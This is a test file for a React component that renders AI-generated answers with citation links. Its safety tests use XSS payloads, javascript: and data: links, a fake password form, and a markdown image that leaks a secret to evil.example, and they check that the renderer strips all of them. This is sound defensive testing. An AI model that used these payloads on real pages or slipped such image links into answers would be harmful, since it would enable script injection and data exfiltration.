import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import type { AnswerPartsFragment, CitationPartsFragment } from "../../gql/graphql.ts";
import { type OpenSpace, SpaceProvider } from "../shell/space-context.tsx";
import { AnswerText } from "./answer-text.tsx";

const space: OpenSpace = {
  id: "1",
  slug: "sample",
  name: "Sample",
  viewerRole: "OWNER",
  viewer: { user: null, hasProvisionalPassword: false, spaces: [] },
};

const citation = (number: number): CitationPartsFragment => ({
  number,
  documentId: `doc-${number}`,
  passageId: `passage-${number}`,
  documentName: `File ${number}.pdf`,
  documentVersion: 1,
  quote: "the quoted words",
  quotePlace: { page: number + 2, startOffset: 3, endOffset: 19 },
  place: { page: number + 2, sheet: null, cellRange: null, headingPath: [], startOffset: 0, endOffset: 16 },
});

function show(text: string, citations: readonly CitationPartsFragment[] = [], warnings: AnswerPartsFragment["warnings"] = []) {
  const container = document.createElement("div");
  container.innerHTML = renderToStaticMarkup(
    <SpaceProvider space={space}>
      <AnswerText text={text} isRunning={false} citations={citations} warnings={warnings} />
    </SpaceProvider>,
  );
  return container;
}

describe("safety of an answer's text", () => {
  it.each([
    `<script>window.hacked = 1</script>`,
    `<img src=x onerror="window.hacked = 1">`,
    `<svg onload="window.hacked = 1"></svg>`,
    `<iframe src="https://evil.example"></iframe>`,
    `<a href="javascript:window.hacked=1">x</a>`,
    `<style>body { display: none }</style>`,
    `<form action="https://evil.example"><input name="password"></form>`,
  ])("drops raw HTML: %s", (text) => {
    const container = show(`Before ${text} after`);
    expect(container.querySelector("script, img, svg, iframe, a, style, form, input")).toBeNull();
    expect(container.innerHTML).not.toContain("onerror");
    expect(window).not.toHaveProperty("hacked");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/api/documents/1)",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
  ])("makes no link of %s", (text) => {
    expect(show(text).querySelector("a")).toBeNull();
  });

  it("makes no picture, whose address alone would call home", () => {
    const container = show("![secret](https://evil.example/?q=secret)\n\n![x][y]\n\n[y]: https://evil.example/pixel.png");
    expect(container.querySelector("img")).toBeNull();
    expect(container.innerHTML).not.toContain("evil.example");
  });

  it("lets links to the web open apart, without telling where they come from", () => {
    const link = show("[site](https://example.com/a)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/a");
    expect(link?.getAttribute("rel")).toContain("noopener");
    expect(link?.getAttribute("rel")).toContain("noreferrer");
  });
});

it("lets each block run in the direction of its own words", () => {
  const container = show("# Title\n\nWords\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  const directions = [...container.querySelectorAll("h1, p, ul, table")].map((block) => block.getAttribute("dir"));
  expect(directions).toEqual(["auto", "auto", "auto", "auto"]);
});

describe("citation chips", () => {
  it("turns [n] into a link to the passage, at its page, with the quote in the hash", () => {
    const container = show("Refunded in full [1], within 30 days [2].", [citation(1), citation(2)]);
    const links = [...container.querySelectorAll("a")];
    expect(links.map((link) => link.textContent)).toEqual(["1", "2"]);
    expect(links[0]?.getAttribute("href")).toBe("/s/sample/documents/doc-1?start=3&end=19&page=3&version=1#quote=the%20quoted%20words");
    expect(links[1]?.getAttribute("aria-label")).toBe("Source 2: File 2.pdf");
  });

  it("leaves a number without a source as it is", () => {
    expect(show("An array [7] and [1].", [citation(1)]).textContent).toBe("An array [7] and 1.");
  });

  it("leaves code alone", () => {
    const container = show("`rows[1]`\n\n```sql\nSELECT a[1]\n```", [citation(1)]);
    expect(container.querySelector("a")).toBeNull();
    expect(container.textContent).toContain("rows[1]");
  });

  it("doesn't let the text give a chip's number another address", () => {
    const container = show("True [1].\n\n[1]: https://evil.example", [citation(1)]);
    expect(container.querySelector("a")?.getAttribute("href")).toMatch(/^\/s\/sample\/documents\/doc-1/);
    expect(container.innerHTML).not.toContain("evil.example");
  });
});

describe("unsupported values", () => {
  const warnings = [{ kind: "UNSUPPORTED_VALUE" as const, message: "12 is in no row.", span: "12" }];

  it("are marked where they stand alone", () => {
    const container = show("In 2012 there were **12** orders, 1,125 items and 12.5 %.", [], warnings);
    expect([...container.querySelectorAll("mark")].map((mark) => mark.textContent)).toEqual(["12"]);
    expect(container.querySelector("strong mark")).not.toBeNull();
  });

  it("may hold characters that mean something in patterns", () => {
    const container = show("It was $5 (net).", [], [{ kind: "UNSUPPORTED_VALUE", message: "", span: "$5 (net)" }]);
    expect(container.querySelector("mark")?.textContent).toBe("$5 (net)");
  });
});
